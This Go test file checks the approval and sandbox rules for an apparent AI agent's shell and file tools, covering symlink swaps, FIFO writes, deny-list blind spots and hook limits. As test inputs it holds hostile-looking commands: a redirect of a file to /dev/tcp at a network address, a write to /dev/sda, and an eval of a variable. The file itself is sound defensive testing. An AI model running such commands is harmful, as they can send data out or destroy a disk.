package tool

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// The mutation survivors of a review, as tests: each fails when its
// mutation is applied (see the issue note for how that was checked).

// TestAlwaysCoversWholeWords: an "always" for rm or go test covers those
// commands with more arguments, never rmdir or go testify.
func TestAlwaysCoversWholeWords(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		grant, command string
		covers         bool
	}{
		{"rm", "rm x", true},
		{"rm", "rmdir x", false},
		{"go test", "go test ./...", true},
		{"go test", "go testify", false},
		{"go test", "go", false},
	} {
		g := Grant{Kind: GrantShell, Value: tt.grant}
		if got := g.covers(Grant{Kind: GrantShell, Value: tt.command}); got != tt.covers {
			t.Errorf("always %q covers %q: %v", tt.grant, tt.command, got)
		}
	}
}

// TestDeviceRedirectionsAsk: with the sandbox off, writing to a network
// pseudo-device or a disk is asked about, whatever the allow list says.
func TestDeviceRedirectionsAsk(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for _, command := range []string{"cat f > /dev/tcp/203.0.113.1/80", "echo x > /dev/sda"} {
		set := NewSet(Builtins(Workspace{Root: dir})...)
		set.rules.Policy = &Policy{AllowShell: []string{"cat", "echo"}}
		var asked []Request
		set.rules.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
			asked = append(asked, r)
			return Decision{Verdict: Deny, Reason: "no"}, nil
		})
		call(set, "run_shell", map[string]any{"command": command})
		if len(asked) != 1 || len(asked[0].Why) == 0 {
			t.Errorf("%q: asked %+v", command, asked)
		}
	}
}

// TestListingTheParentAsks: list_files .. asks, naming the parent folder.
func TestListingTheParentAsks(t *testing.T) {
	t.Parallel()
	dir := filepath.Join(t.TempDir(), "work")
	os.Mkdir(dir, 0o700)
	set := NewSet(Builtins(Workspace{Root: dir})...)
	var asked []Request
	set.rules.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
		asked = append(asked, r)
		return Decision{Verdict: Deny, Reason: "no"}, nil
	})
	call(set, "list_files", map[string]any{"path": ".."})
	if len(asked) != 1 || asked[0].Review.Target != filepath.Dir(dir) {
		t.Fatalf("asked %+v", asked)
	}
}

// TestWriteOntoAFIFOIsRefused: write_file never opens a FIFO (it would
// block, or feed a reader the person did not choose).
func TestWriteOntoAFIFOIsRefused(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	if err := syscall.Mkfifo(filepath.Join(dir, "pipe"), 0o600); err != nil {
		t.Skip(err)
	}
	set := NewSet(Builtins(Workspace{Root: dir})...)
	set.rules.Policy = &Policy{AllowAll: true}
	r := call(set, "write_file", map[string]any{"path": "pipe", "content": "x"})
	if r.Err == nil || !strings.Contains(r.Content, "not a regular file") {
		t.Fatalf("%+v", r)
	}
}

// TestOutsideReadDirectoryReplacedIsRefused: the folder of an approved
// read outside the working directory is replaced by a link (to a secret),
// or by another folder, between the approval and the run: the read is
// refused with ErrChanged, and the secret is not returned.
func TestOutsideReadDirectoryReplacedIsRefused(t *testing.T) {
	t.Parallel()
	for _, link := range []bool{true, false} {
		dir, outside, secret := t.TempDir(), t.TempDir(), t.TempDir()
		os.MkdirAll(filepath.Join(outside, "sub"), 0o700)
		os.WriteFile(filepath.Join(outside, "sub", "f.txt"), []byte("fine\n"), 0o600)
		os.WriteFile(filepath.Join(secret, "f.txt"), []byte("TOP-SECRET\n"), 0o600)
		set := NewSet(Builtins(Workspace{Root: dir})...)
		set.rules.Approver = ApproverFunc(func(context.Context, Request) (Decision, error) {
			sub := filepath.Join(outside, "sub")
			if err := os.Rename(sub, sub+".old"); err != nil {
				return Decision{}, err
			}
			if link {
				return Decision{Verdict: Allow}, os.Symlink(secret, sub)
			}
			return Decision{Verdict: Allow}, os.Rename(secret, sub)
		})
		r := call(set, "read_file", map[string]any{"path": filepath.Join(outside, "sub", "f.txt")})
		if r.Err == nil || !strings.Contains(r.Content, "changed between approval") || strings.Contains(r.Content, "TOP-SECRET") {
			t.Fatalf("link %v: %+v", link, r)
		}
	}
}

// countingApprover records the requests a person was asked.
type countingApprover struct{ asked []Request }

func (c *countingApprover) Approve(_ context.Context, r Request) (Decision, error) {
	c.asked = append(c.asked, r)
	return Decision{Verdict: Deny, Reason: "no"}, nil
}

// TestConfinedStillAsksWhatADenyListCannotSee (T2): the box lets a
// command run without asking, but not one a deny_shell entry cannot see
// into: that one may hide the denied command, and only a person decides.
func TestConfinedStillAsksWhatADenyListCannotSee(t *testing.T) {
	t.Parallel()
	p := &Policy{DenyShell: []string{"git push"}}
	opaque := Request{Tool: "run_shell", Review: Review{NeedsApproval: true, Confined: true, Command: `eval "$CMD"`}}
	for _, allowAll := range []bool{false, true} {
		p.AllowAll = allowAll
		a := &countingApprover{}
		if d, err := p.decide(context.Background(), opaque, a); err != nil || d.Verdict == Allow || len(a.asked) != 1 {
			t.Fatalf("--yes %v: %v %+v, asked %d times", allowAll, err, d, len(a.asked))
		}
		if d, _ := p.decide(context.Background(), opaque, nil); d.Verdict != Deny {
			t.Fatalf("--yes %v, nobody to ask: %+v", allowAll, d)
		}
	}
	plain := Request{Tool: "run_shell", Review: Review{NeedsApproval: true, Confined: true, Command: "ls -la"}}
	if d, _ := p.decide(context.Background(), plain, nil); d.Verdict != Allow {
		t.Fatalf("a plain confined command: %+v", d)
	}
}

// TestAHooksAllowNeverLeavesTheBox (T3): a PreToolUse hook may allow a
// call that would ask, never one that leaves the sandbox.
func TestAHooksAllowNeverLeavesTheBox(t *testing.T) {
	t.Parallel()
	p := &Policy{AllowAll: true}
	leaves := Request{Tool: "run_shell", Review: Review{NeedsApproval: true, LeavesBox: true, HookAllows: true, Command: "ls"}}
	a := &countingApprover{}
	if d, err := p.decide(context.Background(), leaves, a); err != nil || d.Verdict == Allow || len(a.asked) != 1 {
		t.Fatalf("%v %+v, asked %d times", err, d, len(a.asked))
	}
	if d, _ := p.decide(context.Background(), leaves, nil); d.Verdict != Deny {
		t.Fatalf("nobody to ask: %+v", d)
	}
	write := Request{Tool: "write_file", Review: Review{NeedsApproval: true, HookAllows: true}}
	if d, _ := (&Policy{}).decide(context.Background(), write, nil); d.Verdict != Allow {
		t.Fatalf("a hook's allow of a write: %+v", d)
	}
}

// TestEveryCopyKeepsTheTimeouts: a set made from another (Empty, Without,
// Copy, and so a definition's tools) keeps the timeouts set on it.
func TestEveryCopyKeepsTheTimeouts(t *testing.T) {
	t.Parallel()
	set := NewSet(Builtins(Workspace{Root: t.TempDir()})...)
	set.SetTimeout("grep", 3*time.Second)
	grep, _ := set.Lookup("grep")
	for name, s := range map[string]*Set{"empty": set.Empty(), "without": set.Without("run_shell"), "copy": set.Copy()} {
		if d := s.Timeout(grep); d != 3*time.Second {
			t.Errorf("%s: %v", name, d)
		}
	}
	set.Copy().Add(&Skills{})
	if _, ok := set.Lookup(SkillName); ok {
		t.Fatal("a copy shares its registry")
	}
}
